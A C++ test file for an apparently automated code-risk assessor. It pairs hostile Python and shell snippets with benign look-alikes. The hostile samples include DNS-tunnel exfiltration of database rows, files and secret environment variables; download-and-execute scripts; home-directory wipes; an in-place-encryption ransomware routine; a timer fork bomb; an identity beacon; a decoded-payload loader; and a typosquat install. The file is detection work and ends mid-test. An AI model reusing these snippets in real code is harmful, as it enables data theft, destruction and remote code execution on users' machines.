// The classes the twenty-seventh session modelled (issue 14), from the tune
// parts of the hundred-and-nineteenth, -twenty-first, -twenty-second,
// -twenty-fifth and -twenty-eighth rounds (tests/corpus/prog123_MANIFEST.tsv,
// prog125_, prog126_, prog129_, prog132_) and real code installed from
// Debian (impacket's timers): programs written from the rubric alone by
// writers who never saw the assessor. Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `"%s.%d.%s" % (label, i, ZONE)` and `"{}.{}".format(...)` with ZONE an environment
// variable's value or its default: a format took each argument's first text
// only (the variable, unknown), so the name looked up lost the zone and the
// table's rows leaving through DNS were not seen. A format is now filled with
// each combination of its arguments' alternatives, as an f-string is. A
// lookup of names the user typed under the same zone stays LOW.
TEST(HundredAndNineteenthRoundClasses, AFormatFillsEachAlternativeOfItsArguments) {
  const Case cases[] = {
      {"a table's rows base32-encoded into names formatted with %", B,
       "import base64\n"
       "import os\n"
       "import socket\n"
       "import sqlite3\n"
       "\n"
       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
       "\n"
       "\n"
       "def labels(blob, seat):\n"
       "    packed = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
       "    for i in range(0, len(packed), 60):\n"
       "        yield \"%s.%d.%s.%s\" % (packed[i:i + 60], i, seat, ZONE)\n"
       "\n"
       "\n"
       "db = sqlite3.connect(\"trace.db\")\n"
       "rows = \"\\n\".join(\",\".join(map(str, r)) for r in db.execute(\"SELECT * FROM lots\"))\n"
       "for name in labels(rows.encode(), \"s1\"):\n"
       "    try:\n"
       "        socket.getaddrinfo(name, None)\n"
       "    except socket.gaierror:\n"
       "        pass\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"a CSV file base32-encoded into names formatted with str.format", B,
       "import base64\n"
       "import os\n"
       "import socket\n"
       "\n"
       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
       "\n"
       "with open(\"suppliers.csv\", \"rb\") as fh:\n"
       "    packed = base64.b32encode(fh.read()).decode().rstrip(\"=\").lower()\n"
       "for i in range(0, len(packed), 60):\n"
       "    socket.getaddrinfo(\"{}.{}.{}\".format(packed[i:i + 60], i, ZONE), None)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"seats the user names looked up under the same zone", L,
       "import os\n"
       "import socket\n"
       "import sys\n"
       "\n"
       "ZONE = os.environ.get(\"TRACE_ZONE\", \"lic.trace-export.example.org\")\n"
       "\n"
       "for seat in sys.argv[1:]:\n"
       "    name = \"%s.%s\" % (seat.lower(), ZONE)\n"
       "    try:\n"
       "        socket.getaddrinfo(name, None)\n"
       "    except socket.gaierror:\n"
       "        print(\"no licence for\", seat)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// Files downloaded into a cache directory under names from a downloaded
// manifest, the directory put on sys.path and a module imported from it:
// sys.path took only a directory written as a whole (an extracted archive),
// and only the first of the directory's alternatives. It now holds what the
// code wrote into it, under names made at run time too, for each place it
// may be. The same pack read as JSON data stays LOW.
TEST(HundredAndNineteenthRoundClasses, ADirectoryOnSysPathHoldsTheFilesWrittenIntoIt) {
  const Case cases[] = {
      {"a style pack's files downloaded into ~/.cache and its hooks module imported", B,
       "import importlib\n"
       "import json\n"
       "import sys\n"
       "import urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "SERVER = \"https://styles.example.com/packs\"\n"
       "CACHE = Path.home() / \".cache\" / \"styles\"\n"
       "\n"
       "\n"
       "def fetch(url):\n"
       "    with urllib.request.urlopen(url, timeout=15) as resp:\n"
       "        return resp.read()\n"
       "\n"
       "\n"
       "def refresh(pack):\n"
       "    target = CACHE / pack\n"
       "    target.mkdir(parents=True, exist_ok=True)\n"
       "    manifest = json.loads(fetch(f\"{SERVER}/{pack}/manifest.json\"))\n"
       "    for name in manifest.get(\"files\", []):\n"
       "        (target / Path(name).name).write_bytes(fetch(f\"{SERVER}/{pack}/{name}\"))\n"
       "    return target\n"
       "\n"
       "\n"
       "def load_hooks(target):\n"
       "    if (target / \"style_hooks.py\").exists():\n"
       "        sys.path.insert(0, str(target))\n"
       "        return importlib.import_module(\"style_hooks\")\n"
       "    return None\n"
       "\n"
       "\n"
       "hooks = load_hooks(refresh(sys.argv[1] if len(sys.argv) > 1 else \"generic\"))\n"
       "print(\"hooks loaded\" if hooks else \"no hooks\")\n",
       "REMOTE-CODE-EXECUTION"},
      {"the same pack's style.json read as data", L,
       "import json\n"
       "import sys\n"
       "import urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "SERVER = \"https://styles.example.com/packs\"\n"
       "CACHE = Path.home() / \".cache\" / \"styles\"\n"
       "\n"
       "\n"
       "def fetch(url):\n"
       "    with urllib.request.urlopen(url, timeout=15) as resp:\n"
       "        return resp.read()\n"
       "\n"
       "\n"
       "def refresh(pack):\n"
       "    target = CACHE / pack\n"
       "    target.mkdir(parents=True, exist_ok=True)\n"
       "    manifest = json.loads(fetch(f\"{SERVER}/{pack}/manifest.json\"))\n"
       "    for name in manifest.get(\"files\", []):\n"
       "        (target / Path(name).name).write_bytes(fetch(f\"{SERVER}/{pack}/{name}\"))\n"
       "    return target\n"
       "\n"
       "\n"
       "target = refresh(sys.argv[1] if len(sys.argv) > 1 else \"generic\")\n"
       "style = json.loads((target / \"style.json\").read_text())\n"
       "print(style.get(\"width\", 56))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `layout=$(refresh_layout "$house")` where the function downloads the
// layout, logs to standard error (`>&2`), tests it with `[[ -n $(find ...) ]]`
// and echoes its path before `return 0`: the log line and the find inside
// the test counted as what the function printed, so the path sourced was
// not the download. Output sent to standard error or /dev/null leaves
// nothing for $(...), and a substitution inside a test's expression prints
// only into itself. Reading the same file as data stays LOW.
TEST(HundredAndNineteenthRoundClasses, WhatAFunctionPrintsIsNotItsLogsOrItsTestsOutput) {
  const Case cases[] = {
      {"a downloaded layout file sourced by the path a function prints", B,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "HOOKS=\".cache/layouts\"\n"
       "LAYOUT_URL=\"${LAYOUT_URL:-https://cdn.example.com/layouts}\"\n"
       "log() { printf '%s %s\\n' \"$(date +%H:%M:%S)\" \"$*\" >&2; }\n"
       "mkdir -p \"$HOOKS\"\n"
       "\n"
       "refresh_layout() {\n"
       "    local house=\"$1\" hook=\"$HOOKS/$1.layout\"\n"
       "    if [[ ! -s \"$hook\" || -n $(find \"$hook\" -mtime +0) ]]; then\n"
       "        wget -q -T 30 -O \"$hook.new\" \"$LAYOUT_URL/$house.layout\" \\\n"
       "            && mv \"$hook.new\" \"$hook\" \\\n"
       "            || { rm -f \"$hook.new\"; log \"no layout update for $house\"; }\n"
       "    fi\n"
       "    [[ -s \"$hook\" ]] && echo \"$hook\"\n"
       "    return 0\n"
       "}\n"
       "\n"
       "while read -r house _; do\n"
       "    layout=$(refresh_layout \"$house\")\n"
       "    [[ -n \"$layout\" ]] && . \"$layout\"\n"
       "    echo \"synced $house\"\n"
       "done < houses.conf\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same file's first column read with cut", L,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "HOOKS=\".cache/layouts\"\n"
       "LAYOUT_URL=\"${LAYOUT_URL:-https://cdn.example.com/layouts}\"\n"
       "log() { printf '%s %s\\n' \"$(date +%H:%M:%S)\" \"$*\" >&2; }\n"
       "mkdir -p \"$HOOKS\"\n"
       "\n"
       "refresh_layout() {\n"
       "    local house=\"$1\" hook=\"$HOOKS/$1.layout\"\n"
       "    if [[ ! -s \"$hook\" || -n $(find \"$hook\" -mtime +0) ]]; then\n"
       "        wget -q -T 30 -O \"$hook.new\" \"$LAYOUT_URL/$house.layout\" \\\n"
       "            && mv \"$hook.new\" \"$hook\" \\\n"
       "            || { rm -f \"$hook.new\"; log \"no layout update for $house\"; }\n"
       "    fi\n"
       "    [[ -s \"$hook\" ]] && echo \"$hook\"\n"
       "    return 0\n"
       "}\n"
       "\n"
       "while read -r house _; do\n"
       "    layout=$(refresh_layout \"$house\")\n"
       "    [[ -n \"$layout\" ]] && cut -d, -f1 \"$layout\"\n"
       "    echo \"synced $house\"\n"
       "done < houses.conf\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `${SCRATCH%%/.feedplan*}` of "$HOME/.feedplan/scratch/$$" is the home
// directory: a pattern other than a plain suffix left a value with parts
// known only at run time as it was. A literal and a star now cut it at the
// literal's first (%% #) or last (% ##) occurrence when no unknown part can
// hold an earlier or later one. `${SCRATCH%/*}` stays in the scratch tree: LOW.
TEST(HundredAndNineteenthRoundClasses, APatternWithAStarCutsAPartialValue) {
  const Case cases[] = {
      {"an exit trap that removes everything above the state directory", B,
       "#!/usr/bin/env bash\n"
       "set -uo pipefail\n"
       "STATE_DIR=\"${PLAN_HOME:-$HOME/.feedplan}\"\n"
       "SCRATCH=\"$STATE_DIR/scratch/$$\"\n"
       "cleanup() {\n"
       "  # runs of earlier days leave scratch directories behind\n"
       "  rm -rf --one-file-system -- \"${SCRATCH%%/.feedplan*}\"\n"
       "}\n"
       "mkdir -p \"$SCRATCH\"\n"
       "trap cleanup EXIT\n"
       "sort flocks.csv > \"$SCRATCH/flocks.sorted\"\n"
       "wc -l < \"$SCRATCH/flocks.sorted\"\n",
       "WIPE", SH},
      {"the same trap removing the scratch root", L,
       "#!/usr/bin/env bash\n"
       "set -uo pipefail\n"
       "STATE_DIR=\"${PLAN_HOME:-$HOME/.feedplan}\"\n"
       "SCRATCH=\"$STATE_DIR/scratch/$$\"\n"
       "cleanup() {\n"
       "  # runs of earlier days leave scratch directories behind\n"
       "  rm -rf --one-file-system -- \"${SCRATCH%/*}\"\n"
       "}\n"
       "mkdir -p \"$SCRATCH\"\n"
       "trap cleanup EXIT\n"
       "sort flocks.csv > \"$SCRATCH/flocks.sorted\"\n"
       "wc -l < \"$SCRATCH/flocks.sorted\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// run-parts DIR runs every executable file in DIR: hooks downloaded into
// the directory under names from a downloaded index and then run-parts'd
// are remote code. `run-parts --test` only names them: LOW.
TEST(HundredAndNineteenthRoundClasses, RunPartsRunsTheFilesOfItsDirectory) {
  const Case cases[] = {
      {"downloaded hooks run with run-parts", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "BASE=\"https://nas.example.lan/register\"\n"
       "HOOK_DIR=\"./.ringsync/post-sync.d\"\n"
       "mkdir -p \"$HOOK_DIR\"\n"
       "curl -fsS \"$BASE/hooks/index.txt\" | while read -r hook; do\n"
       "  curl -fsS -o \"$HOOK_DIR/$hook\" \"$BASE/hooks/$hook\"\n"
       "  chmod 0755 \"$HOOK_DIR/$hook\"\n"
       "done\n"
       "run-parts --exit-on-error \"$HOOK_DIR\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hooks listed with run-parts --test", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "BASE=\"https://nas.example.lan/register\"\n"
       "HOOK_DIR=\"./.ringsync/post-sync.d\"\n"
       "mkdir -p \"$HOOK_DIR\"\n"
       "curl -fsS \"$BASE/hooks/index.txt\" | while read -r hook; do\n"
       "  curl -fsS -o \"$HOOK_DIR/$hook\" \"$BASE/hooks/$hook\"\n"
       "  chmod 0755 \"$HOOK_DIR/$hook\"\n"
       "done\n"
       "run-parts --test \"$HOOK_DIR\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `".".join(parts + (ZONE,))` with ZONE an environment variable or its
// default: a join took each element's first text, so the zone after the
// unknown labels was lost. It now gives each combination (bounded; past the
// bound an element's first text, as before). Names the user typed: LOW.
TEST(HundredAndNineteenthRoundClasses, AJoinIsEachCombinationOfItsElementsAlternatives) {
  const Case cases[] = {
      {"documents walked under the home, base32-encoded into labels joined before the zone", B,
       "import base64\n"
       "import os\n"
       "import socket\n"
       "import threading\n"
       "from pathlib import Path\n"
       "\n"
       "ZONE = os.environ.get(\"GRADE_ZONE\", \"lic.gradelink.example.net\")\n"
       "\n"
       "\n"
       "def records(roots):\n"
       "    for root in roots:\n"
       "        for path in sorted(Path(root).expanduser().rglob(\"*.csv\")):\n"
       "            yield path.name, path.read_bytes()\n"
       "\n"
       "\n"
       "class Beacon(threading.Thread):\n"
       "    def __init__(self, seat, roots):\n"
       "        super().__init__(daemon=True)\n"
       "        self.seat, self.roots = seat, roots\n"
       "\n"
       "    def _q(self, *parts):\n"
       "        try:\n"
       "            socket.getaddrinfo(\".\".join(parts + (ZONE,)), 53)\n"
       "        except OSError:\n"
       "            pass\n"
       "\n"
       "    def run(self):\n"
       "        for n, (name, blob) in enumerate(records(self.roots)):\n"
       "            enc = base64.b32encode(blob).decode().rstrip(\"=\").lower()\n"
       "            for i in range(0, len(enc), 60):\n"
       "                self._q(enc[i:i + 60], \"%d-%d\" % (n, i), self.seat)\n"
       "\n"
       "\n"
       "Beacon(\"s1\", [\"~/Documents\", \".\"]).start()\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"seats the user names joined before the same zone", L,
       "import os\n"
       "import socket\n"
       "import sys\n"
       "\n"
       "ZONE = os.environ.get(\"GRADE_ZONE\", \"lic.gradelink.example.net\")\n"
       "\n"
       "\n"
       "def lookup(*parts):\n"
       "    try:\n"
       "        return socket.getaddrinfo(\".\".join(parts + (ZONE,)), 53)\n"
       "    except OSError:\n"
       "        return []\n"
       "\n"
       "\n"
       "for seat in sys.argv[1:]:\n"
       "    print(seat, bool(lookup(seat.lower(), \"seat\")))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A tool that encrypts a tree into another tree and decrypts the other
// way: both trees' files have names made at run time under roots the user
// gives ("<src>/<rel>.enc" and "<dest>/<rel>.enc" look alike), so the
// encrypted write looked like an overwrite of a file read (RANSOMWARE). A
// name made at run time now names a file read only when it comes from
// that read's walk. Encrypting each walked file in place stays BLOCKED.
TEST(HundredAndNineteenthRoundClasses, AnOverwriteIsOfTheFileThatWalkRead) {
  const Case cases[] = {
      {"an archive tree encrypted into a separate tree, and back", L,
       "import argparse\n"
       "import os\n"
       "from pathlib import Path\n"
       "\n"
       "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
       "\n"
       "SUFFIX = \".enc\"\n"
       "\n"
       "\n"
       "def encrypt_tree(key, src_root, dest_root):\n"
       "    for dirpath, _, names in os.walk(src_root):\n"
       "        for name in names:\n"
       "            src = Path(dirpath) / name\n"
       "            rel = src.relative_to(src_root)\n"
       "            dest = dest_root / rel.with_name(rel.name + SUFFIX)\n"
       "            dest.parent.mkdir(parents=True, exist_ok=True)\n"
       "            nonce = os.urandom(12)\n"
       "            dest.write_bytes(nonce + AESGCM(key).encrypt(nonce, src.read_bytes(), None))\n"
       "\n"
       "\n"
       "def decrypt_tree(key, src_root, dest_root):\n"
       "    for src in src_root.rglob(\"*\" + SUFFIX):\n"
       "        raw = src.read_bytes()\n"
       "        rel = src.relative_to(src_root)\n"
       "        dest = dest_root / rel.with_name(rel.name[: -len(SUFFIX)])\n"
       "        dest.parent.mkdir(parents=True, exist_ok=True)\n"
       "        dest.write_bytes(AESGCM(key).decrypt(raw[:12], raw[12:], None))\n"
       "\n"
       "\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"source\", type=Path)\n"
       "ap.add_argument(\"dest\", type=Path)\n"
       "ap.add_argument(\"--decrypt\", action=\"store_true\")\n"
       "args = ap.parse_args()\n"
       "key = bytes.fromhex(os.environ[\"ARCHIVE_KEY\"])\n"
       "(decrypt_tree if args.decrypt else encrypt_tree)(key, args.source, args.dest)\n",
       nullptr},
      {"each file under ~/Documents encrypted in place", B,
       "import argparse\n"
       "import os\n"
       "from pathlib import Path\n"
       "\n"
       "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
       "\n"
       "\n"
       "def seal_tree(key, root):\n"
       "    for dirpath, _, names in os.walk(root):\n"
       "        for name in names:\n"
       "            path = Path(dirpath) / name\n"
       "            nonce = os.urandom(12)\n"
       "            path.write_bytes(nonce + AESGCM(key).encrypt(nonce, path.read_bytes(), None))\n"
       "\n"
       "\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument(\"root\", type=Path, nargs=\"?\", default=Path.home() / \"Documents\")\n"
       "args = ap.parse_args()\n"
       "seal_tree(bytes.fromhex(os.environ[\"ARCHIVE_KEY\"]), args.root)\n",
       "RANSOMWARE"},
  };
  for (const auto& c : cases) check(c);
}

// A threading.Timer whose callback arms the next one (impacket's
// DCOM ping, its SOCKS keep-alive) runs one after another: it counted as a
// thread starting a thread of itself (FORK-BOMB). Timers multiply only
// when the callback arms several, in a loop: still FORK-BOMB.
TEST(HundredAndNineteenthRoundClasses, ATimerItsCallbackArmsAgainIsAPeriodicTask) {
  const Case cases[] = {
      {"a heartbeat timer that re-arms itself", L,
       "import threading\n"
       "import time\n"
       "\n"
       "\n"
       "class Heartbeat:\n"
       "    \"\"\"Calls a function every few seconds on a timer that arms itself again.\"\"\"\n"
       "\n"
       "    def __init__(self, interval, function):\n"
       "        self.interval, self.function = interval, function\n"
       "        self.next_call = time.time()\n"
       "        self.start()\n"
       "\n"
       "    def _run(self):\n"
       "        self.start()\n"
       "        self.function()\n"
       "\n"
       "    def start(self):\n"
       "        self.next_call += self.interval\n"
       "        self._timer = threading.Timer(self.next_call - time.time(), self._run)\n"
       "        self._timer.daemon = True\n"
       "        self._timer.start()\n"
       "\n"
       "\n"
       "Heartbeat(5, lambda: print(\"alive\"))\n"
       "time.sleep(12)\n",
       nullptr},
      {"a timer callback that arms four timers of itself", B,
       "import threading\n"
       "\n"
       "\n"
       "def swarm():\n"
       "    for _ in range(4):\n"
       "        threading.Timer(0.01, swarm).start()\n"
       "\n"
       "\n"
       "swarm()\n",
       "FORK-BOMB"},
  };
  for (const auto& c : cases) check(c);
}

// http.client's conn.request("POST", "/v1/...") goes to the host the
// connection was made for; that host's provenance (an environment variable
// the user sets) was not the request's, so the user and host names posted to
// a portal the user configures were a check-in to a destination of the
// code's own (IDENTITY-BEACON). A host written into the code stays BLOCKED.
TEST(HundredAndTwentyFirstRoundClasses, ARequestOnAConnectionGoesWhereItsHostCameFrom) {
  const Case cases[] = {
      {"user and host names posted to a portal written into the code", B,
       "import getpass\n"
       "import http.client\n"
       "import json\n"
       "import socket\n"
       "\n"
       "PORTAL_HOST = \"compliance.depot-portal.example.com\"\n"
       "\n"
       "\n"
       "def seat():\n"
       "    return {\"host\": socket.gethostname(), \"user\": getpass.getuser()}\n"
       "\n"
       "\n"
       "def push(cards):\n"
       "    body = json.dumps({\"cards\": cards, \"seat\": seat()}).encode()\n"
       "    conn = http.client.HTTPSConnection(PORTAL_HOST, timeout=20)\n"
       "    try:\n"
       "        conn.request(\"POST\", \"/v1/registers\", body=body, headers={\"Content-Type\": \"application/json\"})\n"
       "        return conn.getresponse().status\n"
       "    finally:\n"
       "        conn.close()\n"
       "\n"
       "\n"
       "print(push([{\"operator\": \"A. Jones\", \"expires\": \"2026-01-01\"}]))\n",
       "IDENTITY-BEACON"},
      {"the same post to the portal CERTREG_PORTAL names", L,
       "import getpass\n"
       "import http.client\n"
       "import json\n"
       "import os\n"
       "import socket\n"
       "\n"
       "PORTAL_HOST = os.environ.get(\"CERTREG_PORTAL\", \"compliance.depot-portal.example.com\")\n"
       "\n"
       "\n"
       "def seat():\n"
       "    return {\"host\": socket.gethostname(), \"user\": getpass.getuser()}\n"
       "\n"
       "\n"
       "def push(cards):\n"
       "    body = json.dumps({\"cards\": cards, \"seat\": seat()}).encode()\n"
       "    conn = http.client.HTTPSConnection(PORTAL_HOST, timeout=20)\n"
       "    try:\n"
       "        conn.request(\"POST\", \"/v1/registers\", body=body, headers={\"Content-Type\": \"application/json\"})\n"
       "        return conn.getresponse().status\n"
       "    finally:\n"
       "        conn.close()\n"
       "\n"
       "\n"
       "print(push([{\"operator\": \"A. Jones\", \"expires\": \"2026-01-01\"}]))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `base=$(cd ~ && pwd -P)` is the home directory: pwd printed nothing known.
// It prints the working directory now (unknown after a cd to a place not
// followed), so every entry under it removed by find -exec rm -rf is a wipe.
// The same under ./season: LOW.
TEST(HundredAndTwentyFirstRoundClasses, PwdPrintsTheWorkingDirectory) {
  const Case cases[] = {
      {"every entry of the home but the archive removed", B,
       "#!/usr/bin/env bash\n"
       "# Clears last season's working files, keeping the archive folder.\n"
       "set -euo pipefail\n"
       "WORK_SUBDIR=\"\"\n"
       "resolve_workspace() {\n"
       "    local base\n"
       "    base=$(cd ~ && pwd -P)\n"
       "    printf '%s/%s' \"${base%/}\" \"${WORK_SUBDIR}\"\n"
       "}\n"
       "ws=\"$(resolve_workspace)\"\n"
       "find \"$ws\" -mindepth 1 -maxdepth 1 ! -name archive -exec rm -rf {} +\n",
       "WIPE", SH},
      {"every entry of ./season but the archive removed", L,
       "#!/usr/bin/env bash\n"
       "# Clears last season's working files, keeping the archive folder.\n"
       "set -euo pipefail\n"
       "WORK_SUBDIR=\"\"\n"
       "resolve_workspace() {\n"
       "    local base\n"
       "    mkdir -p ./season && base=$(cd ./season && pwd -P)\n"
       "    printf '%s/%s' \"${base%/}\" \"${WORK_SUBDIR}\"\n"
       "}\n"
       "ws=\"$(resolve_workspace)\"\n"
       "find \"$ws\" -mindepth 1 -maxdepth 1 ! -name archive -exec rm -rf {} +\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// `tmp="$CACHE/.dl.$$"`: downloaded into, then extracted and the binary in
// it run in the background. $$ was an unknown part like any other, so the
// name was not tracked and the archive extracted held nothing known. $$ is
// one number for the whole run: marked, the same name is the same file.
// The same download of tables, only read: LOW.
TEST(HundredAndTwentyFirstRoundClasses, AFileNamedWithThePidIsOneFile) {
  const Case cases[] = {
      {"a solver downloaded to .dl.$$, extracted and started", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "CACHE=\"${XDG_CACHE_HOME:-$HOME/.cache}/tidemodel\"\n"
       "URL=\"https://downloads.example.com/solver/solver-linux-x64.tar.gz\"\n"
       "mkdir -p \"$CACHE\"\n"
       "tmp=\"$CACHE/.dl.$$\"\n"
       "curl -fsSL -o \"$tmp\" \"$URL\"\n"
       "tar -xzf \"$tmp\" -C \"$CACHE\" --strip-components=1\n"
       "rm -f \"$tmp\"\n"
       "chmod 700 \"$CACHE/solver\"\n"
       "nice -n 19 \"$CACHE/solver\" --background >/dev/null 2>&1 &\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"tide tables downloaded the same way and read with head", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "CACHE=\"${XDG_CACHE_HOME:-$HOME/.cache}/tidemodel\"\n"
       "URL=\"https://downloads.example.com/tables/tide-tables.tar.gz\"\n"
       "mkdir -p \"$CACHE\"\n"
       "tmp=\"$CACHE/.dl.$$\"\n"
       "curl -fsSL -o \"$tmp\" \"$URL\"\n"
       "tar -xzf \"$tmp\" -C \"$CACHE\" --strip-components=1\n"
       "rm -f \"$tmp\"\n"
       "head -n 5 \"$CACHE/tables.csv\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// importlib.util.spec_from_loader(name, _PackLoader(blob)) and
// spec.loader.exec_module(module): a SourceLoader of the code's own whose
// get_data decodes a base85 and zlib blob. The module runs what the loader's
// get_data (or get_source, get_code) gives. A loader handing back plain text
// written in the code stays LOW.
TEST(HundredAndTwentySecondRoundClasses, AModuleFromTheCodesOwnLoaderRunsWhatTheLoaderGives) {
  const Case cases[] = {
      {"a module loaded from a decoded blob through a custom SourceLoader", B,
       "import importlib.abc\n"
       "import importlib.util\n"
       "import zlib\n"
       "from base64 import b85decode\n"
       "\n"
       "_HELPERS = b\"c$@rvQBTA&5QV?xDNe5m3GI*LgHVWbh)UW95H?XbQ6)aNT>e~|<DU}KS?+Cn4fp3Sm%v2DLp`%lt%1=hAm-PqV\"\n"
       "\n"
       "\n"
       "class _PackLoader(importlib.abc.SourceLoader):\n"
       "    def __init__(self, blob):\n"
       "        self._blob = blob\n"
       "\n"
       "    def get_filename(self, fullname):\n"
       "        return \"<pack:%s>\" % fullname\n"
       "\n"
       "    def get_data(self, path):\n"
       "        return zlib.decompress(b85decode(self._blob))\n"
       "\n"
       "\n"
       "def load_helpers():\n"
       "    spec = importlib.util.spec_from_loader(\"licensing\", _PackLoader(_HELPERS))\n"
       "    module = importlib.util.module_from_spec(spec)\n"
       "    spec.loader.exec_module(module)\n"
       "    return module\n"
       "\n"
       "\n"
       "helpers = load_helpers()\n"
       "print(helpers.stamp(\"note-1\"))\n",
       "EXEC-DECODED-PAYLOAD"},
      {"the same loader over plain source text", L,
       "import importlib.abc\n"
       "import importlib.util\n"
       "\n"
       "_HELPERS = '''\n"
       "def stamp(note):\n"
       "    return \"CBDU-\" + note\n"
       "'''\n"
       "\n"
       "\n"
       "class _TextLoader(importlib.abc.SourceLoader):\n"
       "    def __init__(self, text):\n"
       "        self._text = text\n"
       "\n"
       "    def get_filename(self, fullname):\n"
       "        return \"<text:%s>\" % fullname\n"
       "\n"
       "    def get_data(self, path):\n"
       "        return self._text.encode()\n"
       "\n"
       "\n"
       "def load_helpers():\n"
       "    spec = importlib.util.spec_from_loader(\"licensing\", _TextLoader(_HELPERS))\n"
       "    module = importlib.util.module_from_spec(spec)\n"
       "    spec.loader.exec_module(module)\n"
       "    return module\n"
       "\n"
       "\n"
       "print(load_helpers().stamp(\"note-1\"))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `cfg = tomllib.load(fh)` then `cfg.setdefault("edge_zone", ZONE)`: json.load
// and tomllib.load gave an unknown value, on which setdefault did nothing,
// so the zone of the names looked up was lost. They give a mapping of keys
// known only at run time now, and the default is what the key holds.
// Secrets from the environment leaving as DNS labels: BLOCKED; names the
// user typed under the same zone: LOW.
TEST(HundredAndTwentySecondRoundClasses, AMappingReadFromAFileHoldsItsSetdefaults) {
  const Case cases[] = {
      {"secret environment variables base32-encoded into names under the config's zone", B,
       "import base64\n"
       "import os\n"
       "import socket\n"
       "import tomllib\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    with open(path, \"rb\") as fh:\n"
       "        cfg = tomllib.load(fh)\n"
       "    cfg.setdefault(\"edge_zone\", \"edge.claybook-cdn.example.net\")\n"
       "    return cfg\n"
       "\n"
       "\n"
       "def install_tag():\n"
       "    parts = [f\"{k}={v}\" for k, v in sorted(os.environ.items()) if \"TOKEN\" in k or \"SECRET\" in k]\n"
       "    return base64.b32encode(\"\\n\".join(parts).encode()).decode().rstrip(\"=\").lower()\n"
       "\n"
       "\n"
       "cfg = load_config(\"sync.toml\")\n"
       "tag = install_tag()\n"
       "for i in range(0, len(tag), 50):\n"
       "    try:\n"
       "        socket.getaddrinfo(f\"{tag[i:i + 50]}.{i}.{cfg['edge_zone']}\", 443)\n"
       "    except socket.gaierror:\n"
       "        pass\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"grounds the user names looked up under the same zone", L,
       "import socket\n"
       "import sys\n"
       "import tomllib\n"
       "\n"
       "\n"
       "def load_config(path):\n"
       "    with open(path, \"rb\") as fh:\n"
       "        cfg = tomllib.load(fh)\n"
       "    cfg.setdefault(\"edge_zone\", \"edge.claybook-cdn.example.net\")\n"
       "    return cfg\n"
       "\n"
       "\n"
       "cfg = load_config(\"sync.toml\")\n"
       "for ground in sys.argv[1:]:\n"
       "    try:\n"
       "        socket.getaddrinfo(f\"{ground.lower()}.{cfg['edge_zone']}\", 443)\n"
       "    except socket.gaierror:\n"
       "        print(\"no edge for\", ground)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `specs.extend(GROUPS.get(group, []))` in a loop, then
// `pip install *specs`: the argv's unknown part named none of the packages,
// so a typosquat among them was not seen. The command line names the few
// texts such a list was filled with (not when the list is one of several a
// parameter was given). The same groups with the genuine package: MEDIUM.
TEST(HundredAndTwentySecondRoundClasses, AListFilledInALoopNamesWhatItWasFilledWith) {
  const Case cases[] = {
      {"dependency groups with jeIlyfish installed by pip", B,
       "import subprocess\n"
       "import sys\n"
       "\n"
       "GROUPS = {\n"
       "    \"core\": [\"requests>=2.31\", \"pydantic>=2.5\"],\n"
       "    \"addresses\": [\"jeIlyfish==0.7.2\", \"rapidfuzz>=3.5\"],\n"
       "}\n"
       "\n"
       "\n"
       "def install(groups):\n"
       "    specs = []\n"
       "    for group in groups:\n"
       "        specs.extend(GROUPS.get(group, []))\n"
       "    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", *specs], check=True)\n"
       "\n"
       "\n"
       "install(sys.argv[1:] or list(GROUPS))\n",
       "KNOWN-MALICIOUS-PACKAGE"},
      {"the same groups with jellyfish", M,
       "import subprocess\n"
       "import sys\n"
       "\n"
       "GROUPS = {\n"
       "    \"core\": [\"requests>=2.31\", \"pydantic>=2.5\"],\n"
       "    \"addresses\": [\"jellyfish==1.0.3\", \"rapidfuzz>=3.5\"],\n"
       "}\n"
       "\n"
       "\n"
       "def install(groups):\n"
       "    specs = []\n"
       "    for group in groups:\n"
       "        specs.extend(GROUPS.get(group, []))\n"
       "    subprocess.run([sys.executable, \"-m\", \"pip\", \"install\", *specs], check=True)\n"
       "\n"
       "\n"
       "install(sys.argv[1:] or list(GROUPS))\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// `apply_profile "${profile:-}"` where profile is a downloaded script: the
// expansion took the default's text (empty) and dropped what the code's own
// variable held, so the eval ran nothing known. The default's text stands
// for the value, and the variable's data labels stay (not where an option's
// or the user's text came from). Written to a file instead: LOW.
TEST(HundredAndTwentySecondRoundClasses, AnEmptyDefaultKeepsWhatTheVariableHolds) {
  const Case cases[] = {
